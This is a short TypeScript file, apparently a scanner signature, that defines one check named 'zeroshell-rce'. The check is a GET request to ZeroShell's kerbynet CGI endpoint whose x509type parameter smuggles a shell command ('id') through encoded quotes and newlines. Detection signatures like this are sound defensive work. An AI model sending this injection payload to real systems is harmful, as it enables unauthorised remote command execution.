import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'zeroshell-rce',
    get('/cgi-bin/kerbynet?Action=x509view&Section=NoAuthREQ&User=&x509type=%27%0aid%0a%27'),
    get('/cgi-bin/kerbynet'),
  ),
]
